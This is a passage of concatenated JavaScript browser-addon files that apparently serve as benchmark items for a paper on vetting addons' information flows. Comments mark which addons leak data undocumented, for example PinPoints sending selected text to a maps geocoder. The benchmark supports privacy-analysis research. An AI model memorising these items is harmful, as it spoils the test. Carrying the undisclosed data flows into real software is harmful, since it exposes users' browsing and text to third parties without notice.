    var part = plus == -1 ? rest : rest.substring(0, plus);
    if (part == "ctrl") {
      parsed.ctrl = true;
    } else if (part == "shift") {
      parsed.shift = true;
    } else {
      var code = parseInt(part, 10);
      if (!isNaN(code)) {
        parsed.keyCode = code;
      }
    }
    if (plus == -1) {
      break;
    }
    rest = rest.substring(plus + 1);
  }
  return parsed;
}

function onLanguagePicked(event) {
  var picked = event.target.value;
  hyperTranslate.targetLanguage = picked;
  Services.prefs.setCharPref("extensions.hypertranslate.lang", picked);
  hyperTranslate.cache = {};
  hyperTranslate.cacheSize = 0;
}

function clampText(text) {
  if (text.length > MAX_TEXT_LENGTH) {
    return text.substring(0, MAX_TEXT_LENGTH);
  }
  return text;
}

function parseTranslation(body) {
  // Response shape: [[["<translated>", ...]]]
  var start = body.indexOf("[[[\"");
  if (start == -1) {
    return "";
  }
  var end = body.indexOf("\"", start + 4);
  if (end == -1) {
    return "";
  }
  return body.substring(start + 4, end);
}

function buildRequestBody(text, language) {
  var body = "client=ext&sl=auto";
  body = body + "&tl=" + language;
  body = body + "&dt=t&ie=UTF-8&oe=UTF-8";
  body = body + "&q=" + encodeURIComponent(text);
  return body;
}

function requestTranslation(text, language) {
  var req = new XMLHttpRequest();
  req.open("POST", TRANSLATE_ENDPOINT, true);
  req.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status == 200) {
      var translation = parseTranslation(req.responseText);
      hyperTranslate.remember(text, translation);
      hyperTranslate.show(translation);
    } else {
      hyperTranslate.showError(req.status);
    }
  };
  req.send(buildRequestBody(text, language));
}

function matchesShortcut(event, shortcut) {
  if (shortcut.ctrl && !event.ctrlKey) {
    return false;
  }
  if (shortcut.shift && !event.shiftKey) {
    return false;
  }
  return event.keyCode == shortcut.keyCode;
}

function onKeyPress(event) {
  if (hyperTranslate.busy) {
    return;
  }
  if (matchesShortcut(event, hyperTranslate.shortcut)) {
    var selection = content.getSelection();
    var text = clampText("" + selection);
    if (!text) {
      return;
    }
    var cached = hyperTranslate.lookup(text);
    if (cached) {
      hyperTranslate.show(cached);
      return;
    }
    hyperTranslate.busy = true;
    requestTranslation(text, hyperTranslate.targetLanguage);
  }
}

hyperTranslate.init();
