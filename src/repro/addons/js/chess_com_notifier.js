// Chess.comNotifier — notifies you when it is your turn to play on
// chess.example (echess correspondence games).
//
// Category C: talks to chess.example about game status, but reveals no
// interesting information over the network.

var CHESS_API = "https://chess.example/api/echess/get_move_count";
var POLL_SECONDS = 90;

var notifier = {
  enabled: true,
  lastMoveCount: 0,
  soundOn: true,
  badge: null,

  init: function () {
    this.badge = document.getElementById("chess-notifier-badge");
    var toggle = document.getElementById("chess-notifier-toggle");
    if (toggle) {
      toggle.addEventListener("command", onToggle, false);
    }
    setInterval(pollMoves, POLL_SECONDS * 1000);
  },

  notify: function (count) {
    if (!this.enabled) {
      return;
    }
    if (count > this.lastMoveCount) {
      alert("Chess.com: it is your move in " + (count - this.lastMoveCount) + " game(s)!");
      if (this.badge) {
        this.badge.textContent = "" + count;
      }
    }
    this.lastMoveCount = count;
  }
};

function onToggle(event) {
  notifier.enabled = !notifier.enabled;
  var label = notifier.enabled ? "on" : "off";
  var toggle = document.getElementById("chess-notifier-toggle");
  if (toggle) {
    toggle.setAttribute("label", "Notifications " + label);
  }
}

function parseMoveCount(body) {
  // Response body looks like: {"games_waiting": N, ...}
  var key = "\"games_waiting\":";
  var at = body.indexOf(key);
  if (at == -1) {
    return 0;
  }
  var tail = body.substring(at + key.length);
  var count = parseInt(tail, 10);
  if (isNaN(count)) {
    return 0;
  }
  return count;
}

function pollMoves() {
  if (!notifier.enabled) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", CHESS_API, true);
  req.setRequestHeader("Accept", "application/json");
  req.onreadystatechange = function () {
    if (req.readyState == 4) {
      if (req.status == 200) {
        notifier.notify(parseMoveCount(req.responseText));
      }
    }
  };
  req.send(null);
}

notifier.init();
