// YoutubeDownloader — adds a "download video" button on video pages.
//
// The summary only admits that the addon activates on video pages (an
// implicit dependence on the current URL). In reality it computes the
// video id *directly from the URL* and sends it to the video-info
// endpoint — a real explicit flow the summary never mentioned, which is
// exactly the leak the paper reports for this addon.

var VIDEO_INFO_SERVICE = "http://www.youtube.example/get_video_info?video_id=";
var WATCH_MARKER = "youtube.example/watch";
var ID_PARAM = "v=";
var MAX_FILENAME_LENGTH = 80;

var FORMATS = [
  { key: "mp4", label: "MP4 (720p)", itag: "22" },
  { key: "mp4sd", label: "MP4 (360p)", itag: "18" },
  { key: "flv", label: "FLV (480p)", itag: "35" },
  { key: "3gp", label: "3GP (mobile)", itag: "36" }
];

var downloader = {
  button: null,
  formatMenu: null,
  statusLabel: null,
  currentLink: null,
  currentTitle: "",
  preferredFormat: "mp4",
  downloadCount: 0,

  init: function () {
    this.button = document.getElementById("ytdl-button");
    this.formatMenu = document.getElementById("ytdl-format-menu");
    this.statusLabel = document.getElementById("ytdl-status");
    if (this.button) {
      this.button.addEventListener("command", onDownloadClick, false);
    }
    this.preferredFormat = loadFormatPreference();
    this.buildFormatMenu();
    window.addEventListener("load", onPageLoad, false);
  },

  buildFormatMenu: function () {
    if (!this.formatMenu) {
      return;
    }
    this.formatMenu.textContent = "";
    for (var i = 0; i < FORMATS.length; i++) {
      var item = document.createElement("menuitem");
      item.setAttribute("label", FORMATS[i].label);
      item.setAttribute("value", FORMATS[i].key);
      item.addEventListener("command", onFormatPicked, false);
      this.formatMenu.appendChild(item);
    }
  },

  setStatus: function (message) {
    if (this.statusLabel) {
      this.statusLabel.textContent = message;
    }
  },

  enable: function (link, title) {
    this.currentLink = link;
    this.currentTitle = title;
    if (this.button) {
      this.button.setAttribute("disabled", "false");
      this.button.setAttribute("tooltiptext", "Download " + suggestFilename(title));
    }
    this.setStatus("Video ready to download");
  },

  disable: function (reason) {
    this.currentLink = null;
    this.currentTitle = "";
    if (this.button) {
      this.button.setAttribute("disabled", "true");
    }
    this.setStatus(reason);
  }
};

function loadFormatPreference() {
  var configured = Services.prefs.getCharPref("extensions.ytdl.format");
  for (var i = 0; i < FORMATS.length; i++) {
    if (FORMATS[i].key == configured) {
      return configured;
    }
  }
  return "mp4";
}

function onFormatPicked(event) {
  downloader.preferredFormat = event.target.value;
  Services.prefs.setCharPref("extensions.ytdl.format", downloader.preferredFormat);
}

function itagFor(formatKey) {
  for (var i = 0; i < FORMATS.length; i++) {
    if (FORMATS[i].key == formatKey) {
      return FORMATS[i].itag;
    }
  }
  return FORMATS[0].itag;
}

function extractVideoId(url) {
  var at = url.indexOf(ID_PARAM);
  if (at == -1) {
    return "";
  }
  var id = url.substring(at + ID_PARAM.length);
  var amp = id.indexOf("&");
  if (amp != -1) {
    id = id.substring(0, amp);
  }
  var hash = id.indexOf("#");
  if (hash != -1) {
    id = id.substring(0, hash);
  }
  return id;
}

function suggestFilename(title) {
  var name = title ? title : "video";
  name = name.replace("/", "_");
  name = name.replace("\\", "_");
  name = name.replace(":", "_");
  if (name.length > MAX_FILENAME_LENGTH) {
    name = name.substring(0, MAX_FILENAME_LENGTH);
  }
  return name + "." + downloader.preferredFormat;
}

function parseField(body, key) {
  var marker = key + "=";
  var at = body.indexOf(marker);
  if (at == -1) {
    return "";
  }
  var end = body.indexOf("&", at);
  if (end == -1) {
    end = body.length;
  }
  return body.substring(at + marker.length, end);
}

function parseDownloadLink(body, itag) {
  var streams = parseField(body, "url_encoded_fmt_stream_map");
  if (!streams) {
    return null;
  }
  var decoded = decodeURIComponent(streams);
  var marker = "itag=" + itag;
  var at = decoded.indexOf(marker);
  if (at == -1) {
    return null;
  }
  var urlField = decoded.indexOf("url=", at);
  if (urlField == -1) {
    return null;
  }
  var end = decoded.indexOf(",", urlField);
  if (end == -1) {
    end = decoded.length;
  }
  return decodeURIComponent(decoded.substring(urlField + 4, end));
}

function parseTitle(body) {
  var raw = parseField(body, "title");
  if (!raw) {
    return "";
  }
  return decodeURIComponent(raw).replace("+", " ");
}

function fetchVideoInfo(videoId) {
  downloader.setStatus("Fetching video info...");
  var req = new XMLHttpRequest();
  req.open("GET", VIDEO_INFO_SERVICE + videoId, true);
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status != 200) {
      downloader.disable("Video info unavailable (" + req.status + ")");
      return;
    }
    var status = parseField(req.responseText, "status");
    if (status == "fail") {
      downloader.disable("Video not downloadable");
      return;
    }
    var itag = itagFor(downloader.preferredFormat);
    var link = parseDownloadLink(req.responseText, itag);
    var title = parseTitle(req.responseText);
    if (link) {
      downloader.enable(link, title);
    } else {
      downloader.disable("Preferred format not offered");
    }
  };
  req.send(null);
}

function onPageLoad(event) {
  var url = content.location.href;
  if (url.indexOf(WATCH_MARKER) == -1) {
    downloader.disable("Not a video page");
    return;
  }
  var videoId = extractVideoId(url);
  if (videoId) {
    fetchVideoInfo(videoId);
  } else {
    downloader.disable("No video id in the address");
  }
}

function onDownloadClick(event) {
  if (downloader.currentLink) {
    downloader.downloadCount = downloader.downloadCount + 1;
    downloader.setStatus(
      "Downloading " + suggestFilename(downloader.currentTitle)
      + " (" + downloader.downloadCount + " total)"
    );
  }
}

downloader.init();
