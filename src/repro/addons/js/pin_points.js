// PinPoints — save clips (addresses) from web text to your account.
//
// The summary documents communication with yourpinpoints.example. It
// does not mention that saved clips are first geocoded through the maps
// service — behavior buried in the extended description. The analysis
// surfaces the second network domain; the paper classifies this as a
// (benign but undocumented) leak.

var SAVE_ENDPOINT = "https://www.yourpinpoints.example/api/clips/save";
var GEOCODE_ENDPOINT = "https://maps.google.example/maps/api/geocode/json?address=";
var MAX_CLIP_LENGTH = 250;
var MAX_PENDING = 10;

var pinPoints = {
  statusLabel: null,
  counterLabel: null,
  savedCount: 0,
  failedCount: 0,
  pending: [],

  init: function () {
    this.statusLabel = document.getElementById("pinpoints-status");
    this.counterLabel = document.getElementById("pinpoints-counter");
    var saveItem = document.getElementById("pinpoints-save-menuitem");
    if (saveItem) {
      saveItem.addEventListener("command", onSaveCommand, false);
    }
    var retryItem = document.getElementById("pinpoints-retry-menuitem");
    if (retryItem) {
      retryItem.addEventListener("command", onRetryCommand, false);
    }
  },

  setStatus: function (message) {
    if (this.statusLabel) {
      this.statusLabel.textContent = message;
    }
  },

  refreshCounter: function () {
    if (this.counterLabel) {
      this.counterLabel.textContent =
        this.savedCount + " saved / " + this.failedCount + " failed";
    }
  },

  queueForRetry: function (clip) {
    if (this.pending.length < MAX_PENDING) {
      this.pending.push(clip);
    }
    this.failedCount = this.failedCount + 1;
    this.refreshCounter();
  }
};

function sanitizeClip(text) {
  var clip = text;
  if (clip.length > MAX_CLIP_LENGTH) {
    clip = clip.substring(0, MAX_CLIP_LENGTH);
  }
  clip = clip.replace("\n", " ");
  clip = clip.replace("\t", " ");
  clip = clip.replace("\r", " ");
  var guard = 0;
  while (clip.indexOf("  ") != -1 && guard < 8) {
    clip = clip.replace("  ", " ");
    guard = guard + 1;
  }
  return clip;
}

function looksLikeAddress(clip) {
  // Heuristic: addresses tend to contain a digit and a comma.
  var hasDigit = false;
  for (var i = 0; i < clip.length; i++) {
    var code = clip.charCodeAt(i);
    if (code >= 48 && code <= 57) {
      hasDigit = true;
      break;
    }
  }
  return hasDigit && clip.indexOf(",") != -1;
}

function parseCoordinates(body) {
  var at = body.indexOf("\"location\"");
  if (at == -1) {
    return "";
  }
  var end = body.indexOf("}", at);
  if (end == -1) {
    return "";
  }
  return body.substring(at, end + 1);
}

function geocodeClip(clip, onDone) {
  var req = new XMLHttpRequest();
  req.open("GET", GEOCODE_ENDPOINT + encodeURIComponent(clip), true);
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status == 200) {
      onDone(parseCoordinates(req.responseText));
    } else {
      onDone("");
    }
  };
  req.send(null);
}

function uploadClip(clip, coordinates) {
  var req = new XMLHttpRequest();
  req.open("POST", SAVE_ENDPOINT, true);
  req.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status == 200) {
      pinPoints.savedCount = pinPoints.savedCount + 1;
      pinPoints.refreshCounter();
      pinPoints.setStatus("Saved " + pinPoints.savedCount + " clip(s)");
    } else {
      pinPoints.queueForRetry(clip);
      pinPoints.setStatus("Save failed; queued for retry");
    }
  };
  var body = "clip=" + encodeURIComponent(clip);
  body = body + "&geo=" + encodeURIComponent(coordinates);
  body = body + "&v=2";
  req.send(body);
}

function saveClip(clip) {
  if (looksLikeAddress(clip)) {
    // Enrich street addresses with coordinates before saving — the
    // undocumented maps.google.example communication.
    geocodeClip(clip, function (coordinates) {
      uploadClip(clip, coordinates);
    });
  } else {
    uploadClip(clip, "");
  }
}

function onSaveCommand(event) {
  var selection = "" + content.getSelection();
  if (!selection) {
    pinPoints.setStatus("Nothing selected");
    return;
  }
  saveClip(sanitizeClip(selection));
}

function onRetryCommand(event) {
  var batch = pinPoints.pending;
  if (batch.length == 0) {
    pinPoints.setStatus("Nothing queued for retry");
    return;
  }
  pinPoints.pending = [];
  for (var i = 0; i < batch.length; i++) {
    saveClip(batch[i]);
  }
  pinPoints.setStatus("Retrying " + batch.length + " clip(s)");
}

pinPoints.init();
