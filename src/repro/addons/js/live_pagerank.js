// LivePagerank — displays the Google PageRank for the active URL.
//
// Category A: its whole point is to send the URL you are browsing to the
// toolbar-queries service, so the url -> network flow is expected and
// documented in the addon summary.

var PAGERANK_SERVICE = "http://toolbarqueries.google.example/tbr?client=navclient&q=";
var RANK_UNKNOWN = "-";
var RANK_ERROR = "x";
var MAX_CACHE_ENTRIES = 200;
var MAX_HISTORY_ENTRIES = 25;
var MAX_RETRIES = 2;
var RETRY_DELAY_MS = 2000;

var livePagerank = {
  label: null,
  icon: null,
  menu: null,
  cache: {},
  cacheSize: 0,
  history: [],
  enabled: true,
  showIcon: true,
  retries: 0,

  init: function () {
    this.label = document.getElementById("live-pagerank-label");
    this.icon = document.getElementById("live-pagerank-icon");
    this.menu = document.getElementById("live-pagerank-menu");
    var toggle = document.getElementById("live-pagerank-toggle");
    if (toggle) {
      toggle.addEventListener("command", onToggle, false);
    }
    var clearItem = document.getElementById("live-pagerank-clear-cache");
    if (clearItem) {
      clearItem.addEventListener("command", onClearCache, false);
    }
    this.loadPreferences();
    window.addEventListener("load", onPageLoad, false);
    window.addEventListener("DOMContentLoaded", onPageLoad, false);
  },

  loadPreferences: function () {
    var enabledPref = Services.prefs.getCharPref("extensions.livepagerank.enabled");
    if (enabledPref == "false") {
      this.enabled = false;
    }
    var iconPref = Services.prefs.getCharPref("extensions.livepagerank.showicon");
    if (iconPref == "false") {
      this.showIcon = false;
    }
  },

  display: function (rank) {
    if (this.label) {
      this.label.textContent = "PR: " + rank;
    }
    if (this.icon && this.showIcon) {
      this.icon.setAttribute("rank", rank);
      this.icon.setAttribute("tooltiptext", describeRank(rank));
    }
  },

  remember: function (url, rank) {
    if (this.cacheSize >= MAX_CACHE_ENTRIES) {
      this.cache = {};
      this.cacheSize = 0;
    }
    this.cache[url] = rank;
    this.cacheSize = this.cacheSize + 1;
    this.pushHistory(rank);
  },

  pushHistory: function (rank) {
    this.history.push(rank);
    if (this.history.length > MAX_HISTORY_ENTRIES) {
      this.history.shift();
    }
    this.refreshMenu();
  },

  refreshMenu: function () {
    if (!this.menu) {
      return;
    }
    this.menu.textContent = "";
    var summary = document.createElement("menuitem");
    summary.setAttribute(
      "label",
      "avg " + averageRank(this.history) + " " + trendArrow(this.history)
    );
    summary.setAttribute("disabled", "true");
    this.menu.appendChild(summary);
    for (var i = 0; i < this.history.length; i++) {
      var item = document.createElement("menuitem");
      item.setAttribute("label", "rank " + this.history[i]);
      this.menu.appendChild(item);
    }
  },

  lookup: function (url) {
    var cached = this.cache[url];
    if (cached) {
      return cached;
    }
    return null;
  }
};

function averageRank(history) {
  if (history.length == 0) {
    return 0;
  }
  var total = 0;
  var counted = 0;
  for (var i = 0; i < history.length; i++) {
    var value = parseInt(history[i], 10);
    if (!isNaN(value)) {
      total = total + value;
      counted = counted + 1;
    }
  }
  if (counted == 0) {
    return 0;
  }
  return total / counted;
}

function trendArrow(history) {
  if (history.length < 2) {
    return "·";
  }
  var last = parseInt(history[history.length - 1], 10);
  var prior = parseInt(history[history.length - 2], 10);
  if (isNaN(last) || isNaN(prior)) {
    return "·";
  }
  if (last > prior) {
    return "↑";
  }
  if (last < prior) {
    return "↓";
  }
  return "→";
}

function describeRank(rank) {
  if (rank == RANK_UNKNOWN) {
    return "Rank not available";
  }
  if (rank == RANK_ERROR) {
    return "Service error; will retry";
  }
  var value = parseInt(rank, 10);
  if (isNaN(value)) {
    return "Rank not available";
  }
  if (value >= 8) {
    return "Extremely popular page";
  }
  if (value >= 5) {
    return "Popular page";
  }
  if (value >= 2) {
    return "Average page";
  }
  return "Rarely linked page";
}

function onToggle(event) {
  livePagerank.enabled = !livePagerank.enabled;
  var state = livePagerank.enabled ? "true" : "false";
  Services.prefs.setCharPref("extensions.livepagerank.enabled", state);
  livePagerank.display(RANK_UNKNOWN);
}

function onClearCache(event) {
  livePagerank.cache = {};
  livePagerank.cacheSize = 0;
  livePagerank.history = [];
  livePagerank.refreshMenu();
  livePagerank.display(RANK_UNKNOWN);
}

function checksumQuery(url) {
  // The real service requires a checksum of the query; the exact hash is
  // irrelevant to vetting, but the shape (derived from the URL) is not.
  var sum = 0;
  for (var i = 0; i < url.length; i++) {
    sum = (sum * 31 + url.charCodeAt(i)) % 1000000007;
  }
  return "&ch=8" + sum;
}

function parseRank(body) {
  // The service answers lines like "Rank_1:1:7".
  var at = body.lastIndexOf(":");
  if (at == -1) {
    return RANK_UNKNOWN;
  }
  var rank = parseInt(body.substring(at + 1), 10);
  if (isNaN(rank) || rank < 0 || rank > 10) {
    return RANK_UNKNOWN;
  }
  return "" + rank;
}

function requestRank(url) {
  var req = new XMLHttpRequest();
  var query = PAGERANK_SERVICE + encodeURIComponent(url) + checksumQuery(url);
  req.open("GET", query, true);
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status == 200) {
      livePagerank.retries = 0;
      var rank = parseRank(req.responseText);
      livePagerank.remember(url, rank);
      livePagerank.display(rank);
    } else if (livePagerank.retries < MAX_RETRIES) {
      livePagerank.retries = livePagerank.retries + 1;
      livePagerank.display(RANK_ERROR);
      // Retry by refreshing from the current page state rather than
      // re-sending a captured URL (the page may have changed meanwhile).
      setTimeout(refreshCurrentPage, RETRY_DELAY_MS * livePagerank.retries);
    } else {
      livePagerank.retries = 0;
      livePagerank.display(RANK_UNKNOWN);
    }
  };
  req.send(null);
}

function refreshCurrentPage() {
  onPageLoad(null);
}

function onPageLoad(event) {
  if (!livePagerank.enabled) {
    return;
  }
  var url = content.location.href;
  if (!url || url == "about:blank") {
    livePagerank.display(RANK_UNKNOWN);
    return;
  }
  var cached = livePagerank.lookup(url);
  if (cached) {
    livePagerank.display(cached);
    return;
  }
  livePagerank.display(RANK_UNKNOWN);
  requestRank(url);
}

livePagerank.init();
