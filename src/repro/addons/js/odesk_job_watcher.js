// oDeskJobWatcher — indicates new oDesk job openings matching your feed.
//
// Smallest benchmark addon: a single polling loop against the oDesk jobs
// feed, updating a toolbar badge when the count grows.

var ODESK_FEED = "https://jobs.odesk.example/api/openings.json?feed=saved";
var POLL_MINUTES = 15;

var lastCount = 0;

function updateBadge(count) {
  var badge = document.getElementById("odesk-watcher-badge");
  if (badge) {
    badge.textContent = "" + count;
    badge.style = count > lastCount ? "highlight" : "normal";
  }
  lastCount = count;
}

function parseCount(body) {
  var marker = body.indexOf("\"total\":");
  if (marker == -1) {
    return 0;
  }
  return parseInt(body.substring(marker + 8), 10);
}

function pollJobs() {
  var req = new XMLHttpRequest();
  req.open("GET", ODESK_FEED, true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      updateBadge(parseCount(req.responseText));
    }
  };
  req.send(null);
}

setInterval(pollJobs, POLL_MINUTES * 60 * 1000);
pollJobs();
