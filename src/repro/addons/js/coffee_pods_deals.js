// CoffeePodsDeals — indicates coffee pods on sale at coffeepods.example.
//
// Category C: fetches the public deals feed on a timer and renders a
// little panel; nothing interesting flows out.

var DEALS_FEED = "https://www.coffeepods.example/api/deals.json";
var REFRESH_MINUTES = 30;
var MAX_DEALS_SHOWN = 5;

var dealsPanel = {
  container: null,
  rows: [],
  lastFetched: 0,

  init: function () {
    this.container = document.getElementById("coffeepods-panel");
    var refresh = document.getElementById("coffeepods-refresh");
    if (refresh) {
      refresh.addEventListener("command", fetchDeals, false);
    }
    setInterval(fetchDeals, REFRESH_MINUTES * 60 * 1000);
    fetchDeals();
  },

  clear: function () {
    this.rows = [];
    if (this.container) {
      this.container.textContent = "";
    }
  },

  addRow: function (name, price, discount) {
    if (this.rows.length >= MAX_DEALS_SHOWN) {
      return;
    }
    var row = document.createElement("hbox");
    row.textContent = name + " — $" + price + " (" + discount + "% off)";
    if (this.container) {
      this.container.appendChild(row);
    }
    this.rows.push(row);
  },

  showError: function (status) {
    this.clear();
    var row = document.createElement("hbox");
    row.textContent = "deals unavailable (HTTP " + status + ")";
    if (this.container) {
      this.container.appendChild(row);
    }
  }
};

function parseDeals(body) {
  // Very small hand-rolled parser for [{"name":..,"price":..,"off":..}].
  var deals = [];
  var cursor = 0;
  var guard = 0;
  while (guard < MAX_DEALS_SHOWN * 4) {
    guard++;
    var at = body.indexOf("\"name\":\"", cursor);
    if (at == -1) {
      break;
    }
    var start = at + 8;
    var end = body.indexOf("\"", start);
    if (end == -1) {
      break;
    }
    deals.push({
      name: body.substring(start, end),
      price: "?",
      off: "?"
    });
    cursor = end;
  }
  return deals;
}

function renderDeals(deals) {
  dealsPanel.clear();
  for (var i = 0; i < deals.length; i++) {
    var deal = deals[i];
    dealsPanel.addRow(deal.name, deal.price, deal.off);
  }
}

function fetchDeals() {
  var req = new XMLHttpRequest();
  req.open("GET", DEALS_FEED, true);
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status == 200) {
      renderDeals(parseDeals(req.responseText));
      dealsPanel.lastFetched = 1;
    } else {
      dealsPanel.showError(req.status);
    }
  };
  req.send(null);
}

dealsPanel.init();
