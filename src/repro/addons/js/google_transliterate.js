// GoogleTransliterate — lets the user type in Indian languages: the
// Latin-script text in a field is transliterated via the input-tools
// web API as they type.
//
// The summary only documents talking to the input-tools service. But the
// addon skips transliteration on blank pages — it consults the current
// URL before each request — so *whether* a request happens reveals one
// bit about the page being browsed. A real (if probably harmless)
// implicit flow; the paper's third leak.

var INPUT_TOOLS_API = "https://inputtools.google.example/request?itc=";
var BLANK_PAGE = "about:blank";
var MAX_SUGGESTIONS = 5;
var MAX_WORD_LENGTH = 40;
var MAX_CACHE_ENTRIES = 128;

var SCHEMES = [
  { code: "hi-t-i0-und", label: "Hindi" },
  { code: "ta-t-i0-und", label: "Tamil" },
  { code: "te-t-i0-und", label: "Telugu" },
  { code: "kn-t-i0-und", label: "Kannada" },
  { code: "ml-t-i0-und", label: "Malayalam" },
  { code: "bn-t-i0-und", label: "Bengali" },
  { code: "gu-t-i0-und", label: "Gujarati" }
];

var transliterator = {
  scheme: SCHEMES[0].code,
  lastWord: "",
  suggestions: [],
  suggestionBox: null,
  schemeMenu: null,
  enabled: true,
  requestCount: 0,
  cache: {},
  cacheSize: 0,

  init: function () {
    this.scheme = loadScheme();
    this.suggestionBox = document.getElementById("transliterate-suggestions");
    this.schemeMenu = document.getElementById("transliterate-schemes");
    this.buildSchemeMenu();
    var box = document.getElementById("transliterate-input");
    if (box) {
      box.addEventListener("keyup", onKeyUp, false);
    }
    var toggle = document.getElementById("transliterate-toggle");
    if (toggle) {
      toggle.addEventListener("command", onToggle, false);
    }
  },

  buildSchemeMenu: function () {
    if (!this.schemeMenu) {
      return;
    }
    this.schemeMenu.textContent = "";
    for (var i = 0; i < SCHEMES.length; i++) {
      var item = document.createElement("menuitem");
      item.setAttribute("label", SCHEMES[i].label);
      item.setAttribute("value", SCHEMES[i].code);
      item.addEventListener("command", onSchemePicked, false);
      this.schemeMenu.appendChild(item);
    }
  },

  renderSuggestions: function () {
    if (!this.suggestionBox) {
      return;
    }
    this.suggestionBox.textContent = "";
    var shown = 0;
    for (var i = 0; i < this.suggestions.length && shown < MAX_SUGGESTIONS; i++) {
      var row = document.createElement("label");
      row.textContent = (shown + 1) + ". " + this.suggestions[i];
      this.suggestionBox.appendChild(row);
      shown = shown + 1;
    }
  },

  applySuggestion: function (box) {
    if (this.suggestions.length > 0 && box) {
      box.value = this.suggestions[0];
    }
    this.renderSuggestions();
  },

  remember: function (word, suggestions) {
    if (this.cacheSize >= MAX_CACHE_ENTRIES) {
      this.cache = {};
      this.cacheSize = 0;
    }
    this.cache[this.scheme + "|" + word] = suggestions;
    this.cacheSize = this.cacheSize + 1;
  },

  lookup: function (word) {
    var hit = this.cache[this.scheme + "|" + word];
    if (hit) {
      return hit;
    }
    return null;
  }
};

function loadScheme() {
  var configured = Services.prefs.getCharPref("extensions.transliterate.scheme");
  if (!configured) {
    return SCHEMES[0].code;
  }
  for (var i = 0; i < SCHEMES.length; i++) {
    if (SCHEMES[i].code == configured) {
      return configured;
    }
  }
  return SCHEMES[0].code;
}

function onSchemePicked(event) {
  transliterator.scheme = event.target.value;
  Services.prefs.setCharPref("extensions.transliterate.scheme", transliterator.scheme);
  transliterator.cache = {};
  transliterator.cacheSize = 0;
  transliterator.suggestions = [];
  transliterator.renderSuggestions();
  var toggle = document.getElementById("transliterate-toggle");
  if (toggle) {
    toggle.setAttribute(
      "tooltiptext", "Transliterating to " + schemeLabel(transliterator.scheme)
    );
  }
}

function onToggle(event) {
  transliterator.enabled = !transliterator.enabled;
  var state = transliterator.enabled ? "enabled" : "disabled";
  event.target.setAttribute("label", "Transliteration " + state);
}

function schemeLabel(code) {
  for (var i = 0; i < SCHEMES.length; i++) {
    if (SCHEMES[i].code == code) {
      return SCHEMES[i].label;
    }
  }
  return code;
}

function countWords(text) {
  var count = 0;
  var inWord = false;
  for (var i = 0; i < text.length; i++) {
    var blank = text.charCodeAt(i) == 32;
    if (!blank && !inWord) {
      count = count + 1;
      inWord = true;
    } else if (blank) {
      inWord = false;
    }
  }
  return count;
}

function currentWord(text) {
  var at = text.lastIndexOf(" ");
  var word = at == -1 ? text : text.substring(at + 1);
  if (word.length > MAX_WORD_LENGTH) {
    word = word.substring(word.length - MAX_WORD_LENGTH);
  }
  return word;
}

function isLatinWord(word) {
  if (!word) {
    return false;
  }
  for (var i = 0; i < word.length; i++) {
    var code = word.charCodeAt(i);
    if (code > 127) {
      return false;
    }
  }
  return true;
}

function parseSuggestions(body) {
  // Response shape: ["SUCCESS",[["word",["s1","s2",...]]]]
  var list = [];
  var ok = body.indexOf("\"SUCCESS\"");
  if (ok == -1) {
    return list;
  }
  var cursor = body.indexOf("[[", ok);
  var guard = 0;
  while (guard < MAX_SUGGESTIONS + 3) {
    guard++;
    var start = body.indexOf("\"", cursor + 1);
    if (start == -1) {
      break;
    }
    var end = body.indexOf("\"", start + 1);
    if (end == -1) {
      break;
    }
    list.push(body.substring(start + 1, end));
    cursor = end;
  }
  return list;
}

function buildQuery(word) {
  var query = INPUT_TOOLS_API + transliterator.scheme;
  query = query + "&num=" + MAX_SUGGESTIONS;
  query = query + "&cp=0&cs=1&ie=utf-8&oe=utf-8";
  query = query + "&text=" + encodeURIComponent(word);
  return query;
}

function requestTransliteration(word, box) {
  transliterator.requestCount = transliterator.requestCount + 1;
  var req = new XMLHttpRequest();
  req.open("GET", buildQuery(word), true);
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status == 200) {
      var suggestions = parseSuggestions(req.responseText);
      transliterator.suggestions = suggestions;
      transliterator.remember(word, suggestions);
      transliterator.applySuggestion(box);
    }
  };
  req.send(null);
}

function onKeyUp(event) {
  if (!transliterator.enabled) {
    return;
  }
  // Don't bother transliterating on blank pages — but this consults the
  // browsed URL, which is exactly the undocumented implicit flow.
  if (content.location.href == BLANK_PAGE) {
    return;
  }
  var box = event.target;
  if (countWords(box.value) > 100) {
    return;  // a pasted document, not typing: skip
  }
  var word = currentWord(box.value);
  if (!isLatinWord(word)) {
    return;
  }
  if (word == transliterator.lastWord) {
    return;
  }
  transliterator.lastWord = word;
  var cached = transliterator.lookup(word);
  if (cached) {
    transliterator.suggestions = cached;
    transliterator.applySuggestion(box);
    return;
  }
  requestTransliteration(word, box);
}

transliterator.init();
