// VKVideoDownloader — downloads videos from vk/sibnet/rutube pages.
//
// The addon checks which of three video-player sites the current page
// belongs to and talks to the matching one. The paper's prefix string
// domain cannot represent three unrelated domains at once — their join
// is the unknown string — so the inferred signature reports an unknown
// network domain. That is the paper's "fail" row for this addon (the
// sources, sinks, and flow types are still right).

var VK_HOST = "vk.example";
var SIBNET_HOST = "video.sibnet.example";
var RUTUBE_HOST = "rutube.example";

var PLAYERS = [
  { host: VK_HOST, endpoint: "vk.example/video_ext.php?oid=", label: "VK" },
  { host: SIBNET_HOST, endpoint: "video.sibnet.example/shell.php?videoid=", label: "Sibnet" },
  { host: RUTUBE_HOST, endpoint: "rutube.example/api/video/", label: "RuTube" }
];

var vkDownloader = {
  link: null,
  statusLabel: null,
  attempts: 0,

  init: function () {
    this.link = document.getElementById("vkdl-link");
    this.statusLabel = document.getElementById("vkdl-status");
    window.addEventListener("load", onPageLoad, false);
  },

  setStatus: function (message) {
    if (this.statusLabel) {
      this.statusLabel.textContent = message;
    }
  },

  offer: function (directUrl, label) {
    if (this.link) {
      this.link.setAttribute("href", directUrl);
      this.link.textContent = "Download from " + label;
